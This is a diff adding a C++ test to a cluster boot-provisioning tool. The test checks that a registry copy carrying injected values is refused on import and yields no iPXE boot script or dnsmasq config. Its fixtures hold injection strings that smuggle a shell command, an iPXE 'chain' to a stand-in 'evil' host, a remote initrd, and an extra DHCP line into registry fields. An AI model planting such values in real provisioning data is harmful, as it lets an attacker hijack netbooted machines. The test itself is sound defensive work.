@@ -364,3 +364,55 @@ TEST_CASE("generate: per-node files are rewritten only when changed; stale ones 
 
 }  // namespace
 }  // namespace dim::cluster
+
+namespace dim::cluster {
+namespace {
+
+// A parent's registry never went through the loader: a value that would add a
+// command to a boot script or a line to a DHCP file is refused when the copy
+// is imported, and nothing changes; a registry damaged in place is refused
+// when a boot script is built from it.
+TEST_CASE("registry: a copy carrying an injected value is refused, and no script is built from one") {
+  struct Tamper {
+    const char* sql;
+    const char* field;
+  };
+  const Tamper tampers[] = {
+      {"UPDATE cluster_nodes SET kernel_args = 'quiet || shell' WHERE name = 'r01c1n01'", "kernel-args"},
+      {"UPDATE cluster_nodes SET kernel_args = 'quiet' || char(10) || 'chain http://evil/' WHERE name = 'r01c1n01'",
+       "kernel-args"},
+      {"UPDATE cluster_servers SET boot_url = 'http://evil/\"; x' WHERE name = 'ss1'", "boot-url"},
+      {"UPDATE cluster_images SET kernel = 'vmlinuz initrd=http://evil/i' WHERE name = 'img'", "kernel"},
+      {"UPDATE cluster_interfaces SET hostname = 'r01c1n01' || char(10) || 'dhcp-host=evil'", "host name"},
+      {"UPDATE cluster_site SET domain = 'x;y'", "domain"},
+  };
+  for (const auto& t : tampers) {
+    INFO(t.sql);
+    Fixture top, leaf;
+    std::string xml = SmallXml(NodeXml(1, 1) + NodeXml(1, 2));
+    top.Apply(xml);
+    leaf.Apply(SmallXml(NodeXml(2, 1)));
+    REQUIRE(top.catalog->db().Exec(t.sql).ok());
+    auto body = top.registry().Export();
+    REQUIRE(body.ok());
+    Status s = leaf.registry().Import(*body);
+    REQUIRE_FALSE(s.ok());
+    CHECK(s.message().starts_with("registry from the parent server: "));
+    CHECK(s.message().find(std::string(t.field) + " '") != std::string::npos);
+    CHECK(s.message().find('\n') == std::string::npos);
+    // The leaf keeps what it had.
+    RegistrySnapshot kept = leaf.Load();
+    REQUIRE(kept.cluster.nodes.size() == 1);
+    CHECK(kept.cluster.nodes[0].name == "r01c2n01");
+    // imaged builds boot scripts from its registry: the damaged one gives none
+    // for a node whose values it would copy.
+    RegistrySnapshot bad = top.Load();
+    bool refused = false;
+    for (const auto& n : bad.cluster.nodes) refused |= !GenerateIpxeScript(bad.cluster, n).ok();
+    CHECK(refused == (std::string(t.field) != "host name" && std::string(t.field) != "domain"));
+    CHECK_FALSE(GenerateDnsmasq(bad.cluster).ok());
+  }
+}
+
+}  // namespace
+}  // namespace dim::cluster
